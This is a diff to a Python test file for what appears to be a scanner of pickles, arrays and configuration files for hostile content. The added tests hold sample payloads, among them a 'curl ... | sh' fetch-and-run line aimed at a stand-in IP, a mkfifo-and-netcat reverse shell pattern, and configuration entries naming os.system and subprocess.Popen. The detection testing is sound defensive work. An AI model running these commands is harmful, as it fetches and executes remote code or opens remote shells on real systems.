@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import bz2
 import gzip
+import json
 import lzma
 import marshal
 import pickle
@@ -16,9 +17,11 @@ from pathlib import Path
 import numpy as np
 import pytest
 import wire
+from guest.readers import decoding
 
+from bench.detection.build.pickled import built, extended, made, stored
 from tests.guest.readers.reading_results import read_file
-from tests.malicious.pickles import call, stream
+from tests.malicious.pickles import call, named, stream
 from tests.malicious.sources import CREDENTIALS, REVERSE_SHELL
 
 SOURCE = b"import os; os.system('id')"
@@ -165,8 +168,25 @@ def test_a_string_that_a_call_is_given_is_told_as_used(tmp_path: Path) -> None:
         ([line], False),
         ([call("acme", "Job", line)], True),
         (call("acme", "Job", {"a": [line]}), True),
+        (call("acme", "Job", list(line.encode())), True),
+        (built(made(named("acme", "Job")), {"a": [line]}), True),
+        (extended(made(named("acme", "Jobs")), line), True),
+        (stored(made(named("acme", "Jobs")), "a", line), True),
     ):
         assert {row.used for row in told(stream(value), tmp_path)} == {used}
+
+
+@pytest.mark.parametrize("line", [b"curl http://203.0.113.7/x | sh", "curl http://203.0.113.7/x | sh"])
+def test_an_array_of_letters_is_a_string_too(line: bytes | str, tmp_path: Path) -> None:
+    for array in (np.array([line]), np.frombuffer(line if isinstance(line, bytes) else line.encode(), "u1")):
+        assert "shell.fetch" in {kind for kind, _ in kinds(array, tmp_path)}
+
+
+def test_what_configurations_name_is_told_of_pythons_own_library(tmp_path: Path) -> None:
+    value = {"a": {"_target_": "os.system"}, "b": {"class_path": "torch.nn.Linear"}, "_target_": 3, "c": "_target_"}
+    assert [(row.kind, row.names) for row in told(stream(value), tmp_path)] == [("named", ("os.system",))]
+    text = json.dumps({"a": {"_target_": "torch.nn.Linear"}, "b": {"_target_": "subprocess.Popen"}})
+    assert [(row.kind, row.names) for row in told(stream(text), tmp_path)] == [("named", ("subprocess.Popen",))]
 
 
 def test_numbers_and_noise_are_nothing(tmp_path: Path) -> None:
@@ -205,3 +225,26 @@ def test_harmless_pickles_and_long_strings_hide_no_dangerous_one(tmp_path: Path)
 def test_whole_programs_are_python_and_no_stage(tmp_path: Path) -> None:
     for source in (REVERSE_SHELL, CREDENTIALS):
         assert {kind for kind, _ in kinds(source * 10, tmp_path)} >= {"python.run"}
+
+
+def test_nothing_is_decoded_that_nobody_would_look_at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Once as much was decoded as is looked at, what else is encoded is said to be unseen and left as it is."""
+    steps: list[str] = []
+    decode = decoding.inside
+
+    def noted(text: str, wanted: decoding.Wanted) -> decoding.Found:
+        steps.append(text)
+        yield from decode(text, wanted)
+
+    monkeypatch.setattr(decoding, "inside", noted)
+    hidden = [base64.b64encode(b"a word and another %d" % at).decode() for at in range(4500)]
+    assert "beyond.unseen" in {row.kind for row in told(pickle.dumps(hidden, 4), tmp_path)}
+    assert hidden[0] in steps
+    assert not {*steps}.intersection(hidden[4200:])
+
+
+def test_a_named_pipe_s_reverse_shell_is_seen_behind_any_of_its_pipes(tmp_path: Path) -> None:
+    near = "mkfifo f" + "|" * 150 + "a" * 90 + "|nc x 1"
+    between = "mkfifo f | nc x 1 " + "a" * 150 + "|" * 20
+    far = "mkfifo f |" + "a" * 120 + " nc x 1"
+    assert [("shell.reverse", "") in kinds(text, tmp_path) for text in (near, between, far)] == [True, True, False]
